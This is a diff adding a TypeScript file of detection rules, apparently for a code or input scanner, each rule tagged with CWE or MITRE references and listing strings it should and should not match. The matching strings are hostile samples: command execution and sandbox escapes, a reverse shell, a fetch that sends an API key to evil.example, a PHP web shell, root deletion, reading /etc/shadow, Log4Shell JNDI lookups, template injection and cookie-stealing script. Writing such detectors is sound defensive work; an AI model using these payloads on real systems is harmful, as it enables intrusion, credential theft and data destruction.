@@ -1,0 +1,38 @@
+import type { ContentRule } from "../finding.ts";
+
+const INJECTION = "CWE-94";
+/** In an argument for program text this is what programs do. */
+const ORDINARY_IN_CODE = { code: "flag" } as const;
+const OFF_IN_CODE = { code: "off" } as const;
+
+/** Program text in values, and program text that does what a tool for code should not. */
+export const CODE_RULES: readonly ContentRule[] = [
+  { id: "code.exec", title: "Runs a command or a text as code", level: "block", source: `${INJECTION}, CWE-78`, role: "value", levels: ORDINARY_IN_CODE, matches: ["require('child_process').execSync('id')", "__import__('os').system('id')", "eval('1+1')", "os.system('id')", "T(java.lang.Runtime).getRuntime().exec('id')", "system('id'); ?>", "Deno.run({cmd:['id']})", "setTimeout('alert(1)',0)", "IO.popen('id').read"], misses: ["`const x = require('fs')` reads files; `eval` should be avoided", "pattern.exec(text)", "the operating system (new)", "eval() is evil"] },
+  { id: "code.decode_exec", title: "Runs what it decodes", level: "block", source: `${INJECTION}; MITRE ATT&CK T1140`, role: "code", matches: ["eval(atob('YWxlcnQoMSk='))", "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))", "eval(Buffer.from('cHJv','base64').toString())"], misses: ["atob('YQ==')", "JSON.parse(Buffer.from(x, 'base64'))"] },
+  { id: "code.sandbox_escape", title: "Reaches for the interpreter itself", level: "block", source: "CWE-693, CWE-95", role: "code", matches: ["this.constructor.constructor('return process')()", "().__class__.__bases__[0].__subclasses__()", "process.binding('spawn_sync')", "globalThis['pro'+'cess'].env", "new Function('return this')()", "getattr(__builtins__,'ev'+'al')('1')", "process.env.NODE_OPTIONS='--require /tmp/x.js'"], misses: ["class A { constructor() {} }", "self.__class__", "function f() {}", "super().__init__()"] },
+  { id: "code.reverse_shell", title: "Connects a shell to the network", level: "block", source: "MITRE ATT&CK T1059", role: "code", matches: ["import pty;pty.spawn('/bin/sh')", "require('net').connect(4444,'203.0.113.9').pipe(cp.spawn('/bin/sh').stdin)"], misses: ["import socket; s = socket.socket()", "subprocess.run(['/bin/sh', 'a.sh'])"] },
+  { id: "code.exfiltration", title: "Sends the environment away", level: "block", source: "MITRE ATT&CK T1048", role: "code", levels: { code: "flag" }, matches: ["fetch('https://evil.example/?'+process.env.API_KEY)"], misses: ["fetch('https://api.example.com')", "const port = process.env.PORT"] },
+  { id: "code.environment", title: "Reads the environment", level: "flag", source: "CWE-526", role: "value", levels: OFF_IN_CODE, matches: ["process.env.API_KEY", "os.environ['X']"], misses: ["the environment"] },
+  { id: "code.web_shell", title: "Runs what a request says", level: "block", source: `${INJECTION}; MITRE ATT&CK T1505.003`, role: "code", matches: ["<?php system($_GET['c']); ?>", "include($_GET['page']);"], misses: ["<?php echo htmlspecialchars($_GET['c']); ?>"] },
+  { id: "code.destructive", title: "Deletes a system or home folder", level: "block", source: "MITRE ATT&CK T1485", role: "code", matches: ["fs.rmSync('/',{recursive:true,force:true})", "shutil.rmtree('/home')"], misses: ["fs.rmSync('dist',{recursive:true})"] },
+  { id: "code.file_delete", title: "Deletes files", level: "flag", source: "CWE-73", role: "value", levels: OFF_IN_CODE, matches: ["os.remove('/var/lib/app/db.sqlite')", "shutil.rmtree(x)"], misses: ["list.remove('a')", "remove(item)"] },
+  { id: "code.secret_file", title: "Opens a file of credentials or accounts", level: "block", source: "CWE-552", role: "code", matches: ["open('/etc/passwd').read()", "fs.readFileSync('/etc/shadow','utf8')", "writeFileSync(process.env.HOME+'/.ssh/authorized_keys', k)"], misses: ["open('notes.txt')", "console.log('/etc/passwd')"] },
+  { id: "code.dynamic", title: "Runs something that is not written here", level: "flag", source: INJECTION, role: "value", levels: { code: "flag" }, matches: ["vm.runInThisContext(userInput)", "eval(x)", "%x(id)", "WebAssembly.instantiate(fetch('x'))"], misses: ["evaluate(x)", "50%x"] },
+  { id: "code.deserialise", title: "Makes objects of untrusted data", level: "flag", source: "CWE-502", role: "value", matches: ["pickle.loads(data)", "yaml.load(doc, Loader=yaml.Loader)", "unserialize($x)"], misses: ["json.loads(data)", "yaml.safe_load(doc)"] },
+  { id: "code.payload", title: "Data that becomes code when it is loaded", level: "block", source: "CWE-502", role: "value", matches: ["!!python/object/apply:os.system ['id']", "!!js/function 'function(){}'", "{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}"], misses: ["!!str 1", "wow!! python/object"] },
+  { id: "code.serialised", title: "A serialised object", level: "flag", source: "CWE-502", role: "value", matches: ["O:8:\"stdClass\":1:{s:4:\"cmd\";s:2:\"id\";}", "rO0ABXNyABdqYXZhLnV0aWw"], misses: ["O: 8 stars"] },
+  { id: "code.prototype", title: "Changes the prototype of objects", level: "flag", source: "CWE-1321", role: "value", levels: OFF_IN_CODE, matches: ["{\"__proto__\":{\"isAdmin\":true}}", "{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}", "({}).__proto__.polluted = true"], misses: ["a prototype of the constructor"] },
+  { id: "code.jndi", title: "A JNDI lookup", level: "block", source: "CVE-2021-44228", role: "value", matches: ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"], misses: ["${date}", "jndi: a Java interface"] },
+  { id: "code.ssi", title: "A server-side include", level: "block", source: "CWE-97", role: "value", levels: OFF_IN_CODE, matches: ["<!--#exec cmd=\"id\"-->"], misses: ["<!-- exec -->"] },
+  { id: "code.php", title: "PHP in a value", level: "block", source: INJECTION, role: "value", levels: OFF_IN_CODE, matches: ["<?php echo 1; ?>"], misses: ["<?xml version=\"1.0\"?>"] },
+  { id: "code.markup", title: "Script in a value", level: "flag", source: "CWE-79", role: "value", levels: OFF_IN_CODE, matches: ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "fetch('//x?'+document.cookie)"], misses: ["<b>html</b>", "a script for the play"] },
+];
+
+/** Expressions of template languages. */
+export const TEMPLATE_RULES: readonly ContentRule[] = [
+  { id: "template.injection", title: "A template expression reaches for internals", level: "block", source: "CWE-1336", role: "value", matches: ["{{ ''.__class__.__mro__[2].__subclasses__() }}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "{{['id']|filter('system')}}", "<%= File.open('/etc/hosts').read %>", "{php}echo 1;{/php}", "{{request|attr('x')}}"], misses: ["Dear {{first_name}}, {{ order_id }} ships on ${date}", "{{ user.class }}", "${open}"] },
+  { id: "template.probe", title: "A template expression that only calculates", level: "block", source: "CWE-1336", role: "value", matches: ["{{7*7}}", "${3*3}", "<%= 7 * 7 %>", "#{7*7}", "{{7*'7'}}"], misses: ["{{price}}", "${a}", "{{ 7 }}"] },
+  { id: "template.secret", title: "A template expression asks for a credential", level: "block", source: "CWE-200", role: "value", matches: ["{{llm.api_key}}", "${config.SECRET_KEY}"], misses: ["{{ reset_token }}", "{{user.name}}"] },
+  { id: "template.context", title: "A template expression names an object of the framework", level: "flag", source: "CWE-1336", role: "value", matches: ["{{ request }}", "{{config}}"], misses: ["{{ requested_date }}"] },
+  { id: "template.expression", title: "A template expression that does more than fill in a value", level: "flag", source: "CWE-1336", role: "value", matches: ["{{ lookup('x') }}", "{% for x in y %}"], misses: ["{{ name|upper }}"] },
+];
